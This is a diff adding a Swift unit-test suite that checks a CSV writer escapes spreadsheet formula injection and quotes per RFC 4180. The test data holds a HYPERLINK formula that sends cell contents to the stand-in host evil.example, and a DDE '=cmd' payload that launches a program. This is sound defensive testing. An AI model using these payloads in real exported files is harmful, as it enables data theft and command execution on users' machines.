@@ -83,3 +83,20 @@ struct DirectoryImportTests {
         }
     }
 }
+
+@Suite("CSV written for Excel")
+struct CSVWriteTests {
+    @Test("A cell Excel would take for a formula is written as text; quoting follows RFC 4180")
+    func neutralised() throws {
+        #expect(CSV.cell("=HYPERLINK(\"https://evil.example/?\"&A1)") == "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"")
+        for formula in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            #expect(CSV.cell(formula).hasPrefix("'") || CSV.cell(formula).hasPrefix("\"'"), "\(formula)")
+        }
+        #expect(CSV.cell("北部包括") == "北部包括")
+        #expect(CSV.cell("a,b") == "\"a,b\"")
+        #expect(CSV.row(["1", "=1", "x\"y"]) == "1,'=1,\"x\"\"y\"")
+        // What it writes reads back as the text it was (with the apostrophe that keeps it text).
+        let table = try CSV.parse("h1,h2,h3\r\n" + CSV.row(["=cmd|' /C calc'!A0", "a,b", "-5"]) + "\r\n")
+        #expect(table.rows[0].fields == ["'=cmd|' /C calc'!A0", "a,b", "'-5"])
+    }
+}
